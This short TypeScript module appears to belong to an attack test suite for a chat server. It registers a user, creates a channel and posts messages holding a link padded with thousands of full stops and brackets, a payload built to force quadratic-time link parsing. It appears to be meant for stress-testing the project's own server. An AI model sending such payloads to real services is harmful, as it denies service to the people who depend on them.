import { attackerAddress, type Attack } from '../attack';
import { createChannel, register, rest } from '../http';

/** A link whose end takes quadratic time to find with a naive search. */
const BODY = `http://a${'.'.repeat(5300)}${')'.repeat(2690)}`;

export const links: Attack = {
  what: 'messages with a link that is followed by thousands of full stops and brackets',
  parallel: 1,
  async prepare(url) {
    const address = attackerAddress(0);
    const token = await register(url, 'linker', address);
    const channelId = await createChannel(url, token, address);
    return (index) =>
      rest(url, 'POST', `/api/channels/${channelId}/messages`, {
        token,
        address,
        body: { clientMessageId: `link${index}`, body: BODY },
      });
  },
};
